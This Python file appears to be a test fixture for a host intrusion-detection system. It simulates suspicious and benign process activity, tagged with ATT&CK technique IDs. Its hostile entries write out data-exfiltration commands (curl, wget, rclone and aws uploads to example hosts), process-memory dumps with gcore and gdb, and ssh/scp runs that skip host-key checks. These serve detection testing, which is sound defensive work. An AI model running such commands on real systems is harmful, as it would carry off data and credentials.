"""Programs that were never here: those that carry data off, that call home, that are put off or gone from disk; and twins."""

from tests.detect.coverage.entry import Entry, Found, silent
from tests.detect.coverage.ran import FAR
from tests.detect.coverage.stage import Change, Stage, job, package, proc, sock, together, upgraded

__all__ = ["ENTRIES"]

_LATE = 1_777_890_600  # Unix seconds, in the quiet life's last minute
_PYTHON = "/usr/bin/python3.11"
_DEPLOY = 1_001
_PID = 4_100


def _runs(
    path: str,
    command: str,
    uid: int,
    *,
    parent: int = 1,
    peer: tuple[str, int] | None = None,
    sent: float = 0.0,
    **cells: int,
) -> Change:
    """A program that is running, whom it talks to, and by how much more is sent than usual (bytes a second)."""
    name = command.split(maxsplit=1)[0].rsplit("/", 1)[-1][:15]
    row = proc(_PID, parent, name, path, command, uid, start_time=_LATE) | cells

    def change(stage: Stage) -> None:
        stage.add("processes", dict(row))
        if peer is not None:
            stage.add("process_open_sockets", sock(_PID, *peer))
        stage.rise("system.network.io.transmit.rate", sent)
        stage.rise("system.network.packets.transmit.rate", sent / 1_400)

    return change


def _found(
    technique: str,
    name: str,
    subject: str,
    *steps: Change,
    within: int = 0,
    role: str = "web",
    told_as: str = "",
) -> Entry:
    return Entry(
        id=technique,
        name=name,
        evidence="`processes`, `process_open_sockets`, metrics",
        steps=steps,
        expect=Found(expert="behaviour", subject=f"process:{subject}", within=within),
        role=role,
        told_as=told_as,
    )


def _cron(uid: int, path: str, command: str, sent: float = 0.0) -> Change:
    """A job of cron: cron itself, its shell, and the command."""

    def change(stage: Stage) -> None:
        stage.add("processes", proc(850, 360, "cron", "/usr/sbin/cron", "/usr/sbin/CRON -f"))
        stage.add("processes", proc(851, 850, "sh", "/usr/bin/dash", f"/bin/sh -c {command}", uid))
        _runs(path, command, uid, parent=851, peer=("203.0.113.80", 443), sent=sent)(stage)

    return change


def _job_of_deploy(stage: Stage) -> None:
    stage.add(
        "crontab",
        job("/var/spool/cron/crontabs/ben", "rclone copy /srv/share box:share", "*/10 * * * *"),
    )


def _backs_up(stage: Stage) -> None:
    """A job that always was there; this snapshot caught it."""
    stage.add(
        "crontab",
        job("/etc/cron.d/offsite", "root rclone sync /var/lib/data box:data", "0 4 * * *"),
    )


def _put_off(stage: Stage) -> None:
    stage.add(
        "processes", proc(_PID, 1, "atd", "/usr/sbin/atd", "/usr/sbin/atd -f", start_time=_LATE)
    )
    stage.add(
        "processes",
        proc(_PID + 1, _PID, "atd", "/usr/sbin/atd", "/usr/sbin/atd -f", start_time=_LATE),
    )
    stage.add(
        "processes", proc(_PID + 2, _PID + 1, "sh", "/usr/bin/dash", "sh", 33, start_time=_LATE)
    )


def _atd(stage: Stage) -> None:
    stage.add("processes", proc(370_0, 1, "atd", "/usr/sbin/atd", "/usr/sbin/atd -f"))


def _at_job(stage: Stage) -> None:
    _atd(stage)
    stage.add(
        "processes", proc(_PID, 3700, "atd", "/usr/sbin/atd", "/usr/sbin/atd -f", start_time=_LATE)
    )
    stage.add("processes", proc(_PID + 1, _PID, "sh", "/usr/bin/dash", "sh", start_time=_LATE))


def _at_installed(stage: Stage) -> None:
    stage.add("deb_packages", package("at"))
    _atd(stage)


def _turned(address: str, sent: float) -> Change:
    """The application's worker has a new peer, and so much more is sent."""

    def change(stage: Stage) -> None:
        stage.add("process_open_sockets", sock(511, address, 443, 52_000))
        stage.rise("system.network.io.transmit.rate", sent)
        stage.rise("system.network.packets.transmit.rate", sent / 1_400)

    return change


def _mesh(stage: Stage) -> None:
    path = "/usr/local/sbin/meshd"
    stage.listen(
        proc(_PID, 1, "meshd", path, f"{path} --state=/var/lib/mesh", start_time=_LATE),
        41_000,
        protocol=17,
    )
    stage.listen(stage.tables["processes"][-1], 8_444)


def _gone_from_disk(stage: Stage) -> None:
    """Every daemon whose package was upgraded runs on from a file that is no more."""
    for pid in (350, 360, 370, 380):
        stage.edit("processes", {"pid": pid}, on_disk=0)


def _at_work(stage: Stage, path: str, command: str) -> None:
    stage.tables["processes"] = [
        row for row in stage.tables["processes"] if row["pid"] not in {700, 701, 702, 703}
    ]
    stage.add("processes", proc(700, 380, "sshd", "/usr/sbin/sshd", "sshd: ana [priv]"))
    stage.add("processes", proc(701, 700, "sshd", "/usr/sbin/sshd", "sshd: ana@pts/0", 1_000))
    stage.add("processes", proc(702, 701, "bash", "/usr/bin/bash", "-bash", 1_000))
    _runs(path, command, 1_000, parent=702, peer=("203.0.113.80", 443), sent=9e6)(stage)


def _builds(stage: Stage) -> None:
    tool = "/usr/bin/node /home/ben/w/node_modules/.bin/webpack --mode production"
    stage.add("processes", proc(860, 500, "sh", "/usr/bin/dash", "sh -c npm run build", 998))
    stage.add("processes", proc(861, 860, "npm", "/usr/bin/node", "npm run build", 998))
    stage.add("processes", proc(862, 861, "node", "/usr/bin/node", tool, 998, start_time=_LATE))


_AFAR = (FAR, 443)
_HOSTILE = (
    _found("T1048", "curl -T by a deploy account with nobody logged in", "/usr/bin/curl", _runs("/usr/bin/curl", "curl -s -T /srv/app/dump.tgz https://files.example.net/u", _DEPLOY, peer=_AFAR, sent=9e6)),
    _found("T1048", "curl --upload-file by a deploy account, slowly", "/usr/bin/curl", _runs("/usr/bin/curl", "curl --upload-file /srv/app/dump.tgz https://files.example.net/u", _DEPLOY, peer=_AFAR)),
    _found("T1567", "curl -F by a service account, much at once", "/usr/bin/curl", _runs("/usr/bin/curl", "curl -F file=@/var/lib/app/export.csv https://up.example.net/", 998, peer=_AFAR, sent=9e6), told_as="T1048"),
    _found("T1048", "wget --post-file by a deploy account", "/usr/bin/wget", _runs("/usr/bin/wget", "wget -q --post-file=/srv/app/users.csv https://up.example.net/", _DEPLOY, peer=_AFAR, sent=4e6)),
    _found("T1567.002", "rclone by a deploy account, much at once", "/usr/bin/rclone", _runs("/usr/bin/rclone", "rclone copy /srv/share box:share", _DEPLOY, peer=_AFAR, sent=9e6)),
    _found("T1567.002", "aws s3 cp by a deploy account, much at once", "/usr/local/bin/aws", _runs("/usr/local/bin/aws", "aws s3 cp /srv/share s3://box/ --recursive", _DEPLOY, peer=_AFAR, sent=9e6), told_as="T1048"),
    _found("T1567.002", "gsutil by a service account", "/usr/bin/gsutil", _runs("/usr/bin/gsutil", "gsutil cp /srv/share gs://box/", 998, peer=_AFAR, sent=9e6), role="database", told_as="T1048"),
    _found("T1567.002", "a new job of a deploy account carries much off", "/usr/bin/rclone", together(_job_of_deploy, _cron(_DEPLOY, "/usr/bin/rclone", "rclone copy /srv/share box:share", 9e6)), within=1, told_as="T1048"),
    _found("T1071", "a script of a service account in a tool's hidden directory calls an odd port", "/var/lib/app/.cache/.run/sync.py", _runs(_PYTHON, "/usr/bin/python3 /var/lib/app/.cache/.run/sync.py", 998, peer=(FAR, 8_531))),
    _found("T1071", "a script of a service account in a hidden directory that tools have calls an odd port", "/srv/app/.cache/sync.py", _runs(_PYTHON, "/usr/bin/python3 /srv/app/.cache/sync.py", 998, peer=(FAR, 8_531))),
    _found("T1071", "a script of a service account in a home calls an odd port", "/home/ben/w.pl", _runs("/usr/bin/perl", "/usr/bin/perl /home/ben/w.pl", 33, peer=(FAR, 7_443)), role="database"),
    _found("T1041", "the application sends much to an address that it never used", "/srv/app/venv/bin/gunicorn", _turned(FAR, 1e6)),
    _found("T1003.007", "gcore takes the memory of a service", "/usr/bin/gcore", _runs("/usr/bin/dash", "/bin/sh /usr/bin/gcore -o /tmp/core 511", 0)),
    _found("T1003.007", "gdb takes the memory of a service", "/usr/bin/gdb", _runs("/usr/bin/gdb", "gdb --nx --batch -ex set pagination off -ex attach 511 -ex gcore core.511 -ex detach", 0), told_as="T1055"),
    _found("T1003.007", "gdb with the process's number alone", "/usr/bin/gdb", _runs("/usr/bin/gdb", "gdb -q /usr/bin/python3.11 511", 0)),
    Entry(
        id="T1133",
        name="a daemon of root that no package brought, with a port open to the network",
        evidence="`processes`, `listening_ports`",
        steps=(_mesh,),
        expect=Found(expert="inventory", subject="port:tcp/8444", within=0),
    ),
    _found("T1053.002", "jobs are put off where that was never done", "/usr/sbin/atd", _put_off),
    _found("T1070.004", "a program of root's in /usr/local, never seen before, was deleted", "/usr/local/sbin/irqd", _runs("/usr/local/sbin/irqd", "/usr/local/sbin/irqd", 0, on_disk=0)),
    _found("T1070.004", "a program of a service account in /srv, never seen before, was deleted", "/srv/x/irqd", _runs("/srv/x/irqd", "/srv/x/irqd", 33, on_disk=0), role="database"),
    _found("T1070.004", "a program with a system path was started lately and deleted", "/usr/sbin/irqd", _runs("/usr/sbin/irqd", "/usr/sbin/irqd -f", 0, on_disk=0)),
    _found("T1070.004", "a program with a system path, of a service account, was deleted", "/usr/bin/gvfsd-x", _runs("/usr/bin/gvfsd-x", "/usr/bin/gvfsd-x", 33, on_disk=0), role="database"),
    _found("T1021.004", "scp by a service account with a key from /tmp, to another machine inside", "/usr/bin/scp", _runs("/usr/bin/scp", "scp -i /tmp/k -o StrictHostKeyChecking=no a.tgz app@10.0.0.77:/tmp/", 998, peer=("10.0.0.77", 22))),
    _found("T1021.004", "ssh by a service account that asks for no host key", "/usr/bin/ssh", _runs("/usr/bin/ssh", "ssh -o StrictHostKeyChecking=no -i /tmp/.k root@10.0.0.77 id", 998, peer=("10.0.0.77", 22))),
)  # fmt: skip

_HARMLESS = (
    silent("backup", "root's nightly job copies much to the cloud, in a snapshot for the first time", _cron(0, "/usr/bin/rclone", "rclone sync /var/lib/data box:data", 9e6), before=_backs_up),
    silent("backup", "an operator copies a file to the cloud", lambda s: _at_work(s, "/usr/bin/rclone", "rclone copy /home/ana/x box:x")),
    silent("services", "a script in a deploy directory talks to a machine inside on an odd port", _runs(_PYTHON, "/usr/bin/python3 /srv/ingest/main.py", 995, peer=("10.0.0.31", 8_531))),
    silent("services", "a script in a deploy directory talks to a broker outside", _runs(_PYTHON, "/usr/bin/python3 /opt/ingest/main.py", 995, peer=("203.0.113.81", 8_883))),
    silent("deploy", "the application talks to a new partner outside", _turned("203.0.113.81", 0.0)),
    silent("ci", "a build runs tools from its node_modules", _builds, role="build"),
    silent("jobs", "a put-off job where that is usual", _at_job, before=_atd),
    silent("install", "the tool to put jobs off is installed", together(upgraded("at"), _atd)),
    silent("upgrade", "daemons run on after their upgrade", together(upgraded("cron", "rsyslog", "openssh-server"), _gone_from_disk)),
    silent("upgrade", "daemons run on after an upgrade hours ago", _gone_from_disk, role="admin"),
)  # fmt: skip


ENTRIES: tuple[Entry, ...] = (*_HOSTILE, *_HARMLESS)
